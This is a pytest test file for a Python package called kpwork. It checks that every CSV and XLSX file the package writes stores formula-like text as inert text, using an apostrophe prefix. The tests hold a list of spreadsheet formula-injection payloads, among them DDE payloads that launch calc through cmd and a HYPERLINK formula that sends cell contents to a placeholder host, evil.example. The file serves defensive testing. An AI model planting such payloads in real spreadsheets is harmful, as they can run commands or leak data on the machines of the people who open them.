"""No live formulas: every CSV and XLSX kpwork writes stores formula-like text as text (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from kpwork import load_region
from kpwork import sheets as sh
from kpwork.analysis import analyse_region
from kpwork.catalogue import write_forms
from kpwork.catalogue.form import DATA_SHEET, FORM_COLUMNS
from kpwork.pages.catalogue import export_xlsx
from kpwork.pages.funding import write_council_xlsx
from kpwork.results import read_table, write_results, write_table

#: One payload per dangerous first character, plus the classics.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klikni\")",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_prefix_gets_an_apostrophe_and_comes_back(payload):
    stored = sh.neutralise_formula(payload)
    assert stored == "'" + payload
    assert sh.restore_formula(stored) == payload


@pytest.mark.parametrize("value", ["Domov", "'hello", "585599", "2024-01-01", "", "cmd|' /C calc'!A0"])
def test_harmless_text_is_kept(value):
    assert sh.neutralise_formula(value) == value
    assert sh.restore_formula(value) == value


@pytest.mark.parametrize("value", [-5, -1.5, 0, 3.25])
def test_numbers_stay_numbers(value):
    assert sh.neutralise_formula(value) == value and type(sh.neutralise_formula(value)) is type(value)


@pytest.mark.parametrize("value", ["-5", "-1,5", "+3"])
def test_text_that_is_a_plain_number_is_kept(value):
    assert sh.neutralise_formula(value) == value


@pytest.mark.parametrize("value", ["'=x", "''-1+1", "'@a"])
def test_apostrophes_before_a_formula_round_trip(value):
    stored = sh.neutralise_formula(value)
    assert stored == "'" + value and sh.restore_formula(stored) == value


def _csv_cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


def test_result_csv_holds_text_not_formulas_and_numbers_as_numbers(tmp_path):
    frame = pd.DataFrame({"nazev": PAYLOADS, "saldo": [-float(i) - 0.5 for i in range(len(PAYLOADS))], "n": range(-5, len(PAYLOADS) - 5)})
    path = tmp_path / "t.csv"
    write_table(frame, path)
    rows = _csv_cells(path)
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][1] == "-0,5" and rows[1][2] == "-5"  # negative numbers stay numbers (no apostrophe)
    back = read_table(path)
    assert back["nazev"].tolist() == PAYLOADS
    assert back["saldo"].dtype == float and back["n"].tolist() == list(range(-5, len(PAYLOADS) - 5))


def test_a_run_s_results_neutralise_a_hostile_provider(region_copy, set_cell, tmp_path):
    set_cell(region_copy / "services.csv", 2, "poskytovatel", "=HYPERLINK(\"http://evil.example\",\"x\")")
    set_cell(region_copy / "services.csv", 3, "adresa", "=cmd|' /C calc'!A0")
    region = load_region(region_copy)
    assert region.services.loc[region.services["id"] == "S01", "poskytovatel"].item().startswith("=HYPERLINK") if "id" in region.services else True
    analysis = analyse_region(region, today=dt.date(2026, 1, 1))
    write_results(analysis.tables, analysis.layers, analysis.meta, tmp_path / "results")
    text = (tmp_path / "results" / "sluzby.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
    assert "'=cmd|" in text and ";=cmd|" not in text


def _cell_types(book, payloads) -> list[tuple[str, object, bool]]:
    return [(c.data_type, c.value, c.quotePrefix) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in payloads]


def test_council_workbook_cells_are_text_with_quote_prefix(tmp_path):
    frame = pd.DataFrame({"obec": PAYLOADS, "castka": [-1000.0] * len(PAYLOADS)})
    path = write_council_xlsx({"Obce": frame}, tmp_path / "rada.xlsx")
    book = load_workbook(path)
    found = _cell_types(book, PAYLOADS)
    assert len(found) == len(PAYLOADS)
    assert all(t == "s" and prefix for t, _, prefix in found), found
    amounts = [row[1].value for row in book["Obce"].iter_rows(min_row=2)]
    assert amounts == [-1000] * len(PAYLOADS)  # numbers stay numbers


def test_openpyxl_would_store_a_formula_without_it(tmp_path):
    book = Workbook()
    book.active["A1"] = "=1+1"
    assert book.active["A1"].data_type == "f"  # the attack: openpyxl writes a live formula
    sh.neutralise_workbook(book)
    book.save(tmp_path / "a.xlsx")
    cell = load_workbook(tmp_path / "a.xlsx").active["A1"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", "=1+1", True)


def test_catalogue_forms_and_export_store_text(region_copy, set_cell, tmp_path):
    set_cell(region_copy / "services.csv", 2, "nazev", "=HYPERLINK(\"http://evil.example\")")
    set_cell(region_copy / "services.csv", 2, "telefon", "+420 577 000 101")
    write_forms(region_copy, tmp_path / "forms", today=dt.date(2026, 1, 10))
    found = []
    for path in (tmp_path / "forms").glob("*.xlsx"):
        ws = load_workbook(path)[DATA_SHEET]
        column = FORM_COLUMNS.index("nazev") + 1
        found += [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1) if str(ws.cell(row=r, column=column).value).startswith("=")]
    assert len(found) == 1 and found[0].data_type == "s" and found[0].quotePrefix
    region = load_region(region_copy)
    services = analyse_region(region, today=dt.date(2026, 1, 1)).tables["sluzby"]
    book = load_workbook(io.BytesIO(export_xlsx(services, region.member_names().to_dict())))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_region_csv_written_by_kpwork_reads_back_the_same(tmp_path):
    text = sh.write_rows([["id", "nazev"], ["S01", "=1+1"], ["S02", "-"]])
    assert text == "id;nazev\r\nS01;'=1+1\r\nS02;'-\r\n"
    sheet = sh.read_csv_text(text, "services.csv")
    assert sheet.frame["nazev"].tolist() == ["=1+1", "-"]
